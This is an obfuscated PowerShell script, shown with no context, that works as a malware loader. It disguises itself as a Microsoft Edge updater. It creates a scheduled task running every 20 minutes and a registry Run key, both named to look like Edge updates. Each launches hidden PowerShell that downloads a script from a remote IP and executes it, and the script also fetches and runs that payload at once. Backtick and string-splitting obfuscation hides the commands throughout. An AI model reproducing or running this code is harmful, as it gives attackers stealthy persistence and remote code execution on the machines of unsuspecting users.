$tN = 'Micro' + 'softEdgeUpdateTaskMachineUA2'
$u = 'h' + "tt`p://203.0.113.88/`Edge/up`d.ps1"
&("{0}{1}" -f 'schta','sks') /cr`EATE /F /S`C MINUTE /MO 20 /TN $tN /TR "po`wEr`shell -w h`idden -nop -c `"I`EX (N`Ew-Ob`jEct N`Et.W`EbC`lient).Do`wnloa`dStr`ing('$u')`""
.("Se"+"t-I"+"temProperty") -Pa "HKCU:\Sof`Tware\Micr`osoft\Windows\Curr`EntVersion\R`Un" -N ('Edge' + 'Update') -Va "po`wErs`hell -w hidden -nop -c I`EX(iwr '$u' -useb)"
(n`Ew-oBjE`Ct ('N' + 'et.W' + 'ebClient')).('Down' + 'loadStr' + 'ing').Invoke($u) | &(`G`C`M *ke-E*x*)
